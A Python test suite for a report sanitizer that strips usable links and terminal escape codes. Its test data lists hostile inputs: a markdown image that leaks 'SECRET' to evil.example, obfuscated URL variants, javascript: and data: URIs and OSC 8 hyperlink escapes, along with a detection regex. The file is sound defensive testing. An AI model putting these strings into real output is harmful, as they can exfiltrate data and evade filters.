"""In a report that strangers may have worded nothing acts by itself, and no address is one."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.delivery.sanitize import neutralize, strip_controls
from tests.properties import scaled_settings

ADDRESSES = [
    "![x](https://evil.example/a.png?d=SECRET)",
    "[click](http://evil.example/x)",
    "[click][1]\n\n[1]: http://evil.example/x",
    "> [1]: <http://evil.example/x>",
    "<https://evil.example/x>",
    "<img src=https://evil.example/x>",
    "<a href='//evil.example/x'>y</a>",
    "&lt;img src=https://evil.example/x&gt;",
    "&amp;lt;img src=https://evil.example/x&amp;gt;",
    "[x](https&#58;//evil.example/x)",
    "[x](https&colon;//evil.example/x)",
    "[x](https\\://evil.example/x)",
    "ht\u00adtps://evil.example/x",
    "https:\u200b//evil.example/x",
    "HTTPS://EVIL.EXAMPLE/x",
    "http：//evil.example/x",
    "evil.example/steal?x=1",
    "evil。example/steal",
    "secret.data.evil.example",
    "www.evil.example",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "ftp://evil.example/x",
    "1.2.3.4/x?d=1",
    "http://[2001:db8::1]/x",
    "javascript:alert(1)",
    "data:text/html,x",
    "\x1b]8;;http://evil.example/x\x07click\x1b]8;;\x07",
]
LIVE = re.compile(
    r"(?i)\bhttps?:|\bftp:|(?<![\w:\[])//\w|\\\\\w|\bwww\.|\bjavascript:|\bdata:|\]\(|^[ "
    r">]*\[[^\]]+\]:|<[a-z/!]"
    r"|evil\.example[/?]|\.evil\.example|1\.2\.3\.4|[\x00-\x08\x0b-\x1f\x7f-\x9f]",
    re.MULTILINE,
)


@pytest.mark.parametrize("text", ADDRESSES)
def test_sanitized_text_contains_no_usable_address(text):
    assert not LIVE.search(neutralize(text))


@pytest.mark.parametrize(
    "text",
    [
        "# Morning\n\n- **Load**: 0.1/0.2/0.3\n- 3 < 4 and a & b",
        "systemd-journald.service failed; see notes.md, src/main.py:12 and foo.tar.gz",
        "Version 3.11.2 on 10.0.0.0/8, 192.168.1.1, C:\\dir, key: value, a/b/c.txt, e.g. this",
        "| a | b |\n| --- | --- |\n| `x` | **y** |",
        "备份完成。磁盘 71%。",
    ],
)
def test_ordinary_reports_stay_as_they_are(text):
    assert neutralize(text) == text


def test_a_terminal_is_told_nothing_and_an_open_sequence_swallows_one_line_at_most():
    assert (
        strip_controls("\x1b[31mred\x1b[0m \x1b]0;title\nthe rest\u202e\u2066") == "red \nthe rest"
    )


bits = ["&#58;", "&amp;", "\\", "<", "]", "(", "](", "://", ":", "/", "//", ".", "a", " ", "\n"]
pieces = st.sampled_from([*ADDRESSES, *bits])


@scaled_settings(300)
@given(st.lists(pieces, max_size=12).map("".join))
def test_sanitizing_is_idempotent(text):
    once = neutralize(text)
    assert neutralize(once) == once
    assert not re.search(r"(?i)\bhttps?:\\?//|\]\(|<[a-z/!?]", once)
